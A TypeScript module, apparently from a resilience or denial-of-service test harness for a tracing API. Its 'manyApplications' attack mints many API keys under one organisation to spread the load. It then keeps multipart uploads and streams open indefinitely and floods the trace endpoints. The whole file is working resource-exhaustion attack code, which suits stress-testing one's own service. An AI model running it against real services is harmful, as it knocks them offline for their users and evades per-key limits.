import { once } from 'node:events';
import type { Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attacks.ts';
import { flood } from './attack-floods.ts';
import { headOf, keepSockets } from './sockets.ts';
import { callTarget, spansOf, type Target } from './target.ts';

const APPLICATIONS = { full: 30, short: 20 };
/** Uploads and streams that each application keeps open. */
const UPLOADS = 4;
const STREAMS = 4;
const SPANS = 200;

/**
 * Takes shares as one organisation with many applications, each with a key of its own: uploads that never end, streams that
 * stay open, spans and lists at full rate.
 */
export const manyApplications: Attack = async (target, begun, end) => {
  const targets = await applicationsOf(target, target.isShort ? APPLICATIONS.short : APPLICATIONS.full);
  let next = 0;
  const turn = (): Target => targets[next++ % targets.length] as Target;
  const count = targets.length;
  const held = [
    keepSockets(target.port, count * UPLOADS, (socket) => holdUpload(socket, turn()), end),
    keepSockets(target.port, count * STREAMS, (socket) => holdStream(socket, turn()), end),
  ];
  await Promise.all(held.map(({ opened }) => opened));
  await delay(500);
  const body = JSON.stringify(spansOf('f'.repeat(32), SPANS, 'On its way. '.repeat(20)));
  const did = await flood(target, begun, end, () => {
    const { headers } = turn();
    if (next % 2 === 0) return headOf('GET', '/v0/traces?limit=100', headers);
    const sent = { 'content-type': 'application/json', 'content-length': String(body.length) };
    return headOf('POST', '/v1/traces', { ...headers, ...sent }) + body;
  });
  if (!end.aborted) await once(end, 'abort');
  return `${count} applications; ${did}`;
};

/** Creates applications in the organisation of the target, by its own key. */
async function applicationsOf(target: Target, count: number): Promise<Target[]> {
  const targets = [target];
  while (targets.length < count) {
    const { data, apiKey } = (await callTarget(target, 'POST', '/v0/applications', {
      title: `Attacker ${targets.length}`,
      type: 'AGENT',
    })) as { data: { id: string }; apiKey: { key: string } };
    targets.push({ ...target, headers: { 'x-api-key': apiKey.key, 'x-application-id': data.id } });
  }
  return targets;
}

function holdUpload(socket: Socket, { headers }: Target): void {
  const form = { 'content-type': 'multipart/form-data; boundary=held', 'content-length': '1000000' };
  socket.write(headOf('POST', '/v0/documents/upload', { ...headers, ...form }));
  socket.write('--held\r\ncontent-disposition: form-data; name="file"; filename="a.md"\r\n\r\n# A');
  socket.resume();
}

function holdStream(socket: Socket, { headers }: Target): void {
  socket.write(headOf('GET', '/v0/traces/stream', headers));
  socket.resume();
}
